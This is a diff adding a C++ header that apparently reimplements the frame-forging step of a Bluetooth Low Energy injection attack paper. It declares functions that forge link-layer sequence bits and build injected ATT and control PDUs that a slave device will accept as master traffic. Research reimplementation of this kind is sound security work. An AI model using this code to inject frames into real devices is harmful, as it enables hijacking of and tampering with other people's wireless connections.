@@ -1,0 +1,38 @@
+// Frame forging (paper §V-C, Eq. 6): build the malicious PDU so the slave's
+// flow control accepts it as fresh, correctly-acknowledging master traffic.
+#pragma once
+
+#include <utility>
+
+#include "att/att_pdu.hpp"
+#include "common/bytes.hpp"
+#include "link/control_pdu.hpp"
+#include "link/pdu.hpp"
+
+namespace injectable {
+
+/// Eq. 6: given the SN/NESN bits observed in the slave's frame during the
+/// previous connection event, returns {SN_a, NESN_a} for the injected frame.
+[[nodiscard]] constexpr std::pair<bool, bool> forged_sequence_bits(bool slave_sn,
+                                                                   bool slave_nesn) noexcept {
+    //   SN_a   = NESN_s
+    //   NESN_a = (SN_s + 1) mod 2
+    return {slave_nesn, !slave_sn};
+}
+
+/// Builds a forged data-channel PDU carrying `payload`, with the Eq. 6 bits.
+[[nodiscard]] ble::link::DataPdu forge_data_pdu(ble::link::Llid llid, ble::Bytes payload,
+                                                bool slave_sn, bool slave_nesn,
+                                                bool md = false);
+
+/// Wraps an ATT PDU in its L2CAP frame (CID 0x0004) — the payload format of
+/// scenario A's injected Write/Read Requests. Must fit one LL PDU.
+[[nodiscard]] ble::Bytes att_over_l2cap(const ble::att::AttPdu& pdu);
+
+/// Convenience: full forged LL payloads for the four scenarios.
+[[nodiscard]] ble::link::DataPdu forge_att_request(const ble::att::AttPdu& att, bool slave_sn,
+                                                   bool slave_nesn);
+[[nodiscard]] ble::link::DataPdu forge_ll_control(const ble::link::ControlPdu& control,
+                                                  bool slave_sn, bool slave_nesn);
+
+}  // namespace injectable
